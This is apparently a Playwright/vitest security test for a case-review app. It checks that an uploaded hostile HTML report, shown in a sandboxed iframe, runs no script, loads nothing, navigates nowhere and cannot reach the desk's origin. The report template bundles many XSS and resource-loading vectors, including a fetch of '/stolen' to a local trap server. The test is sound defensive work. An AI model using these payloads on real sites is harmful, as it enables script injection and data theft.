import { mkdirSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { join } from 'node:path';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { aigak, said, scratchFolders } from '../support/cli.ts';
import { BROWSER, type Eyes, openEyes } from '../support/desk-page.ts';
import { asPage, type OpenDesk, openDesk, signIn } from '../support/open-desk.ts';

const scratch = scratchFolders();
let desk: OpenDesk;
let eyes: Eyes;
let trap: Server;
let caught = 0;
let heard = '';

/** A report that tries whatever a page can try: to run, to load, to lead away, to send, to look around. */
const hostile = (away: string): string => `<!doctype html><html><head><title>Arrest in Belvar</title>
<script>parent.RAN = 'script'; fetch('${away}/stolen')</script><script src="${away}/x.js"></script>
<style>@import url(${away}/x.css); @font-face { font-family: x; src: url(${away}/f.woff) }
body { font-family: x; background: url(${away}/x.png) } p::before { content: url(${away}/c.png) }</style>
<link rel="stylesheet" href="${away}/y.css"><link rel="preload" as="image" href="${away}/p.png">
<link rel="preconnect" href="${away}/"><link rel="prefetch" href="${away}/pf"><link rel="modulepreload" href="${away}/m.js">
<link rel="icon" href="${away}/ic"><link rel="manifest" href="${away}/mf"><base href="${away}/">
<meta http-equiv="refresh" content="0;url=${away}/r"></head>
<body onload="parent.RAN = 'onload'"><p>The teacher Nadir Olkhov was beaten in Belvar on 4 May 1950.</p>
<form action="${away}/f" method="post"><input name="a" autofocus onfocus="parent.RAN = 'focus'"><button id="send">send</button></form>
<a id="run" href="javascript:parent.RAN = 'link'">more</a> <a id="away" href="${away}/k">away</a>
<a id="over" target="_top" href="${away}/t">over</a>
<img src="${away}/i.png" onerror="parent.RAN = 'error'"><img src="data:," onerror="parent.RAN = 'error'">
<img width="99999999" height="99999999" src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='99999999' height='99999999'%3E%3Cscript%3Eparent.RAN='svg'%3C/script%3E%3Cimage href='${away}/s.png'/%3E%3C/svg%3E">
<iframe src="/api/case"></iframe><object data="${away}/o"></object><embed src="${away}/e"><video src="${away}/v.mp4" autoplay></video>
<svg onload="parent.RAN = 'svg'" width="20" height="20"><script>parent.RAN = 'svg'</script><use href="${away}/u.svg#a"/></svg>
</body></html>`;

describe.skipIf(BROWSER === undefined)('a hostile report in the desk’s page', () => {
  let page: Page;
  let frame: Frame;

  beforeAll(async () => {
    trap = createServer((line) => {
      caught++;
      line.on('data', (part) => (heard += part));
      line.on('error', () => undefined);
    });
    await new Promise<void>((listening) => trap.listen(0, '127.0.0.1', listening));
    const away = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
    const folder = scratch.make();
    const from = join(folder, 'reports');
    mkdirSync(from);
    writeFileSync(join(from, 'first.txt'), 'The teacher Nadir Olkhov was arrested in Belvar on 3 May 1950.\n');
    const run = aigak(['build', from, '--case', join(folder, 'case')]);
    expect(run.status, said(run)).toBe(0);
    desk = await openDesk(join(folder, 'case'));
    const cookie = await signIn(desk);
    const put = await asPage(desk, cookie, 'PUT', '/api/source?file=hostile.html', hostile(away));
    const { source } = JSON.parse(put.text).taken;
    eyes = await openEyes();
    page = await eyes.window(desk, '/');
    await page.evaluate((path) => {
      const shown = document.createElement('iframe');
      shown.src = path;
      shown.id = 'original';
      shown.style.cssText = 'position: fixed; inset: 0; width: 100%; height: 100%; z-index: 9999';
      document.body.append(shown);
    }, `/api/source/${source}/original`);
    await page.waitForTimeout(2000);
    frame = page.frames().find((one) => one.url().endsWith('/original')) as Frame;
  });
  afterAll(async () => {
    await eyes.close();
    await desk.end();
    trap.close();
    scratch.clear();
  });

  it('[H12] is shown, runs nothing, loads nothing and goes nowhere by itself', async () => {
    expect(await frame.locator('p').textContent()).toContain('The teacher Nadir Olkhov was beaten');
    expect(await page.evaluate('window.RAN')).toBeUndefined();
    expect([caught, heard]).toEqual([0, '']);
  });

  it('[H12] runs nothing and sends nothing when somebody presses what is in it', async () => {
    const address = page.url();
    for (const what of ['#run', '#send', '#over', '#away']) {
      await frame.locator(what).click({ timeout: 2000, force: true });
      await page.waitForTimeout(300);
    }
    expect(await page.evaluate('window.RAN')).toBeUndefined();
    expect(page.url()).toBe(address);
    // A browser may open a line to where a link would lead before its policy stops it; nothing is said on that line.
    expect(heard).toBe('');
  });

  it('[H12] is of no origin: it and the desk cannot look into each other', async () => {
    expect(
      await page.evaluate(() => (document.querySelector('#original') as HTMLIFrameElement).contentDocument),
    ).toBeNull();
  });
});
